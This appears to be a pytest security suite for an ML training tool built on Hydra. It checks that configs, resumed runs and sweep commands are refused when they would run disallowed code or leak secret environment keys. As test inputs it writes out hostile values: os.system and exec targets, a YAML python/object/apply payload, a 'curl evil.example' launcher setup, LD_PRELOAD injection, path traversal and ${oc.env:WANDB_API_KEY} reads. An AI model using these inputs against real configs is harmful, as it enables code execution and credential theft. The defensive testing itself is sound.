"""No config has anything run that is not on the list, and no key in the environment reaches a record."""

import json
from collections.abc import Callable
from pathlib import Path

import pytest
from hydra import compose, initialize_config_dir
from hydra.core.global_hydra import GlobalHydra
from omegaconf import OmegaConf

from tests.conftest import composed
from tlcl.commands import explain, predict
from tlcl.commands import report as report_cli
from tlcl.config.compose import composed_config
from tlcl.config.parse import parse_config
from tlcl.config.schema import conf_dir
from tlcl.errors import UserError
from tlcl.security.allowlist import check_composed
from tlcl.security.secrets import looks_secret
from tlcl.security.untrusted import check_command, recorded_config
from tlcl.train import main

KEY = "sentinel-0123456789"
Refused = Callable[..., str]


@pytest.fixture
def refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Refused:
    """Call a console entry in an empty folder: it must end with one sentence and exit code 2, which it returns."""
    (tmp_path / "cwd").mkdir()
    monkeypatch.chdir(tmp_path / "cwd")
    monkeypatch.setenv("TLCL_CACHE", str(tmp_path / "cache"))

    def call(entry: Callable[[], None], *arguments: str) -> str:
        GlobalHydra.instance().clear()
        monkeypatch.setattr("sys.argv", ["tlcl", *arguments])
        with pytest.raises(SystemExit) as stopped:
            entry()
        assert stopped.value.code == 2
        lines = [line for line in capsys.readouterr().err.splitlines() if line.strip()]
        assert len(lines) == 1, lines
        assert lines[0].startswith("error: ")
        assert not list((tmp_path / "cwd").rglob("config.yaml"))
        return lines[0]

    return call


@pytest.mark.parametrize(
    ("arguments", "parts"),
    [
        (["+x._target_=os.system"], ["x._target_=os.system"]),
        (["+optim.block_lr._target_=builtins.exec"], ["optim.block_lr._target_=builtins.exec"]),
        (["+x=[{_target_: os.system}]"], ["x.0._target_=os.system"]),
        (["+x._target_=torch.os.system"], ["torch.os.system"]),
        (["+x._target_=tlcl.tracking.environment.subprocess.run"], ["tlcl.tracking.environment.subprocess.run"]),
        (["+x._target_=torchish.nn.Linear"], ["torchish.nn.Linear"]),
        (["+x._target_=${name}", "name=os.system"], ["x._target_=${name}", "plain name"]),
        (["+hydra.callbacks.x._target_=os.system"], ["callbacks.x._target_=os.system", "tlcl.sweeps.callback"]),
        (["+hydra.callbacks.x._target_=torch.hub.load"], ["hydra.callbacks.x._target_=torch.hub.load"]),
        (["+hydra.callbacks.x._target_=tlcl.extensions.allow"], ["tlcl.extensions.allow"]),
        (["+hydra.callbacks.x._target_=tlcl.sweeps.callback.sys.exit"], ["tlcl.sweeps.callback.sys.exit"]),
        (["+hydra.callbacks.x._target_=hydra.utils.get_method"], ["hydra.utils.get_method"]),
        (["+hydra.callbacks.x=${optim}"], ["hydra.callbacks.x=${optim}"]),
        (["+hydra.callbacks.x='${oc.decode:${name}}'", "name='{_target_: os.system}'"], ["hydra.callbacks.x"]),
        (["seed=0,1", "hydra.sweeper._target_=os.system"], ["hydra.sweeper._target_=os.system"]),
        (["seed=0,1", "hydra.launcher._target_=subprocess.run"], ["hydra.launcher._target_=subprocess.run"]),
        (["hydra.launcher._target_=os.system"], ["hydra.launcher._target_=os.system"]),
        (["hydra/job_logging=disabled", "+hydra.job_logging.handlers.x.class=os.system"], ["handlers.x.class"]),
        (["+hydra.hydra_logging.filters.x={class: os.system}"], ["hydra.hydra_logging.filters.x.class=os"]),
        (["hydra.job_logging.handlers.console.stream=ext://os.system"], ["ext://os.system", "ext://sys.stdout"]),
        (["--experimental-rerun", "job.pickle"], ["pickle", "+resume="]),
        (["--e", "job.pickle"], ["pickle", "+resume="]),
        (["name=${oc.env:WANDB_API_KEY}"], ["name", "WANDB_API_KEY"]),
        (["name='${oc.env:WANDB_API_KEY,none}'"], ["name", "WANDB_API_KEY"]),
        (["name='a-${oc.env:${optim.name}}'", "optim.name=WANDB_API_KEY"], ["name", "WANDB_API_KEY"]),
        (["+hydra.job.env_set.X=${oc.env:WANDB_API_KEY}"], ["hydra.job.env_set.X", "WANDB_API_KEY"]),
        ([f"name=run-{KEY}"], ["name", "WANDB_API_KEY"]),
        ([f"+{KEY}=1"], ["a key", "WANDB_API_KEY"]),
    ],
    ids=lambda value: " ".join(value) if isinstance(value, list) else None,
)
def test_a_command_line_brings_nothing_from_outside(
    arguments: list[str], parts: list[str], refused: Refused, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("WANDB_API_KEY", KEY)
    many = ["-m"] if "seed=0,1" in arguments else []
    sentence = refused(main, *many, "model.weights=none", "logger=none", *arguments)
    assert all(part in sentence for part in parts), sentence
    assert KEY not in sentence


@pytest.mark.parametrize("group", ["launcher", "sweeper", "callbacks"])
def test_nor_does_a_folder_of_configs(group: str, refused: Refused, tmp_path: Path) -> None:
    """Given by --config-dir, and chosen by name."""
    mark, folder = tmp_path / "ran", tmp_path / "mine" / "hydra" / group
    folder.mkdir(parents=True)
    content = {"_target_": "os.mkdir", "path": str(mark)}
    (folder / "evil.yaml").write_text(json.dumps({"x": content} if group == "callbacks" else content))
    for more in ([f"--config-dir={tmp_path / 'mine'}"], [f"hydra.searchpath=[file://{tmp_path / 'mine'}]"]):
        assert "os.mkdir" in refused(main, "-m", "seed=0,1", f"hydra/{group}=evil", *more)
    assert not mark.exists()


def hydra_config(*overrides: str) -> None:
    with initialize_config_dir(str(conf_dir().resolve()), version_base="1.3"):
        check_composed(compose("config", list(overrides), return_hydra_config=True))


def test_what_ships_and_what_hydra_offers_is_allowed() -> None:
    hydra_config()
    for launcher in ("basic", "joblib", "slurm", "submitit_local"):
        hydra_config(f"hydra/launcher={launcher}")
    for sweeper in ("basic", "search", "optuna"):
        hydra_config(f"hydra/sweeper={sweeper}")
    for logging in ("default", "none", "disabled", "stdout"):
        hydra_config(f"hydra/job_logging={logging}")
    for sampler in ("tpe", "random", "grid", "cmaes"):
        hydra_config("hydra/sweeper=optuna", f"hydra/sweeper/sampler={sampler}")
    hydra_config("+hydra.callbacks.log._target_=hydra.experimental.callbacks.LogJobReturnCallback")
    check_composed(OmegaConf.create({"x": {"_target_": "torch.optim.SGD"}, "y": {"_target_": "lightning.Trainer"}}))


def test_a_search_space_of_ones_own_is_code_too() -> None:
    with pytest.raises(UserError, match=r"custom_search_space=os\.system"):
        hydra_config("hydra/sweeper=optuna", "hydra.sweeper.custom_search_space=os.system")
    with pytest.raises(UserError, match=r"formatters\.x\.\(\)=os\.system"):
        check_composed(OmegaConf.create({"hydra": {"job_logging": {"formatters": {"x": {"()": "os.system"}}}}}))


def test_inside_the_program_too() -> None:
    with pytest.raises(UserError, match=r"x\._target_=os\.system"):
        composed_config(["+x._target_=os.system"])


@pytest.mark.parametrize(
    ("text", "part"),
    [
        ("name: ${oc.env:WANDB_API_KEY}\n", "name=${oc.env:WANDB_API_KEY}"),
        ("name: a\noptim: {lr: '${oc.decode:1}'}\n", "optim.lr"),
        ("x: {_target_: os.system}\n", "x._target_=os.system"),
        ("!!python/object/apply:os.mkdir [ran]\n", "is damaged"),
        ("name: [\n", "is damaged"),
        ("5\n", "it must map keys to values"),
        ("- 1\n", "must map keys to values"),
        ("name: run-" + KEY + "\n", "WANDB_API_KEY"),
    ],
)
@pytest.mark.parametrize("program", ["train", "predict", "explain", "report"])
def test_somebody_elses_run_is_data(
    program: str, text: str, part: str, refused: Refused, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Resumed, used to predict or explain, or reported: its config.yaml has nothing run and no key read."""
    monkeypatch.setenv("WANDB_API_KEY", KEY)
    run = tmp_path / "run"
    run.mkdir()
    for name in ("labels.json", "model.safetensors", "environment.json"):
        (run / name).write_text("{}")
    if KEY in text:
        if program == "report":
            pytest.skip("shows what is there, and keeps nothing")
        text = OmegaConf.to_yaml(composed(tmp_path)).replace("name: finetune\n", text)
    (run / "config.yaml").write_text(text)
    entry, arguments = {
        "train": (main, [f"+resume={run}"]),
        "predict": (predict.main, [str(run), str(tmp_path)]),
        "explain": (explain.main, [str(run), str(tmp_path)]),
        "report": (report_cli.main, [str(run)]),
    }[program]
    sentence = refused(entry, *arguments)
    assert part in sentence
    assert KEY not in sentence
    assert not (tmp_path / "cwd" / "ran").exists()
    assert not (run / "report.html").exists()


HARMLESS = [
    "-m", "+experiment=finetune_layerwise", "seed=0,1", "~method", "data@source=letters", "name=hydra",
    "optim.lr=tag(log, interval(0.001, 0.1))", "hydra/launcher=slurm", "hydra/sweeper=search",
    "hydra.launcher.partition=gpu-long", "hydra.launcher.timeout_min=60", "hydra.sweeper.n_trials=5",
    "hydra.sweeper.params.optim.lr=interval(0.1, 0.2)", "hydra.sweep.dir=/anywhere", "hydra.sweep.subdir=${seed}",
]  # fmt: skip


def test_a_sweep_goes_on_with_what_cannot_do_harm(tmp_path: Path) -> None:
    check_command(HARMLESS, [], tmp_path)


@pytest.mark.parametrize(
    "item",
    [
        "hydra.launcher.setup=[curl evil.example]",
        "hydra.launcher.additional_parameters={wrap: ls}",
        "hydra.launcher.submitit_folder=/home/user",
        "hydra.sweeper.storage=sqlite:////home/user/x",
        "hydra.sweeper.custom_search_space=tlcl.extensions.allow",
        "hydra.searchpath=[file:///tmp]",
        "hydra.job.env_set.LD_PRELOAD=/tmp/x.so",
        "+hydra.callbacks.x._target_=tlcl.sweeps.callback.SweepCallback",
        "hydra.run.dir=/home/user",
        "hydra.sweep.subdir=../../home",
        "hydra.sweep.subdir=/home/user",
        "data@hydra.callbacks=digits",
        "--config-dir=/tmp",
        "--experimental-rerun=/tmp/x",
        "/tmp/x",
    ],
)
def test_a_sweep_does_no_more_than_its_user_repeats(item: str, refused: Refused, tmp_path: Path) -> None:
    (tmp_path / "sweep").mkdir()
    (tmp_path / "sweep" / "sweep.json").write_text(json.dumps({"command": [*HARMLESS, item]}))
    sentence = refused(main, f"+resume={tmp_path / 'sweep'}")
    assert item in sentence
    check_command([*HARMLESS, item], [item], tmp_path)


@pytest.mark.parametrize(
    ("name", "secret"),
    [
        ("WANDB_API_KEY", True), ("HF_TOKEN", True), ("AWS_SECRET_ACCESS_KEY", True), ("GITHUB_PAT", True),
        ("DB_PASSWORD", True), ("mysecret", True), ("OPENAI_APIKEY", True), ("SSH_PASSPHRASE", True), ("KEY", True),
        ("TOKENIZERS_PARALLELISM", False), ("TLCL_CACHE", False), ("HOME", False), ("KEYBOARD", False),
        ("PATH", False), ("MONKEY_BUSINESS", False), ("AUTHOR", False),
    ],
)  # fmt: skip
def test_which_names_look_secret(name: str, secret: bool) -> None:
    assert looks_secret(name) is secret


def test_other_variables_may_be_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("WHERE", "here")
    config = composed(tmp_path, "name=${oc.env:WHERE}")
    assert parse_config(config).name == "here"


def test_a_record_is_read_as_it_was_written(tmp_path: Path) -> None:
    config = composed(tmp_path)
    (tmp_path / "config.yaml").write_text(OmegaConf.to_yaml(config, resolve=True))
    assert parse_config(recorded_config(tmp_path)) == parse_config(config)
